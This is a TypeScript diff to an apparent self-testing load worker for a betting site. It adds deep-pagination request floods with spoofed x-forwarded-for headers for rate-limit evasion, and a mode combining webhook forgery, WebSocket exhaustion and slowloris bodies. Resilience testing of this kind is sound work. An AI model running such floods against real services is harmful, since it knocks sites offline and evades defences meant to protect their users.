@@ -7,9 +7,14 @@ export type Attack =
   | 'forged webhooks'
   | 'forged webhooks of many addresses'
   | 'sockets'
-  | 'slow bodies';
+  | 'slow bodies'
+  | 'deep pages'
+  | 'deep pages of many addresses'
+  | 'all of them at once';
 
-const { url, attack } = workerData as { url: string; attack: Attack };
+/** `cookie` is the session of a player with many bets, who looks at deep pages. */
+const { url, attack, cookie } = workerData as { url: string; attack: Attack; cookie: string };
+const isAll = attack === 'all of them at once';
 const { hostname, port, host } = new URL(url);
 
 const WEBHOOKS_PER_SECOND = 200;
@@ -24,6 +29,15 @@ const DOORS = [
 const IDLE_SOCKETS = 2_000;
 const PINGING_SOCKETS = 50;
 const SLOW_BODIES = 300;
+const DEEP_PAGES = 20;
+const DEEP = [
+  '/api/fairness/roulette/history?limit=100&page=99',
+  '/api/fairness/case-battles/history?limit=100&page=99',
+  '/api/fairness/rain/history?page=499',
+  '/api/wallet/transactions/games?page=499',
+  '/api/wallet/transactions/rewards?page=499',
+];
+const REFUSED_MS = 100;
 const AGAIN_MS = 5_000;
 /** A ping of a WebSocket, masked with zeros. */
 const PING = Buffer.from([0x89, 0x80, 0, 0, 0, 0]);
@@ -71,15 +85,34 @@ function hold(first: () => string, again?: { bytes: Buffer; everyMs: number }): 
   });
 }
 
-if (attack.startsWith('forged')) forgeAlways();
-if (attack === 'sockets') {
+/** One deep page after the other; after a refusal a tenth of a second later. Of many addresses it is a visitor's. */
+async function leaf(first: number): Promise<never> {
+  const isSpread = attack === 'deep pages of many addresses';
+  const pages = isSpread ? DEEP.filter((path) => path.startsWith('/api/fairness')) : DEEP;
+  for (let count = first; ; count += DEEP_PAGES) {
+    const headers: Record<string, string> = isSpread
+      ? { 'x-forwarded-for': `198.51.${(count >> 8) & 0xff}.${count & 0xff}` }
+      : { cookie, 'x-forwarded-for': '192.0.2.1' };
+    const status = await fetch(`${url}${pages[count % pages.length]}`, { headers })
+      .then(async (reply) => {
+        await reply.arrayBuffer();
+        return reply.status;
+      })
+      .catch(() => 0);
+    if (status !== 200) await new Promise((resolve) => setTimeout(resolve, REFUSED_MS));
+  }
+}
+
+if (isAll || attack.startsWith('forged')) forgeAlways();
+if (isAll || attack === 'sockets') {
   for (let count = 0; count < IDLE_SOCKETS; count += 1) hold(upgrade);
   const pings = Buffer.concat(Array<Buffer>(100).fill(PING));
   for (let count = 0; count < PINGING_SOCKETS; count += 1) hold(upgrade, { bytes: pings, everyMs: 10 });
 }
-if (attack === 'slow bodies') {
+if (isAll || attack === 'slow bodies') {
   const head = () =>
     `POST /api/chat HTTP/1.1\r\nhost: ${host}\r\norigin: ${url}\r\nx-forwarded-for: 192.0.2.1\r\n` +
     'content-type: application/json\r\ncontent-length: 8000\r\n\r\n';
   for (let count = 0; count < SLOW_BODIES; count += 1) hold(head, { bytes: Buffer.from(' '), everyMs: 100 });
 }
+if (isAll || attack.startsWith('deep')) for (let count = 0; count < DEEP_PAGES; count += 1) void leaf(count);
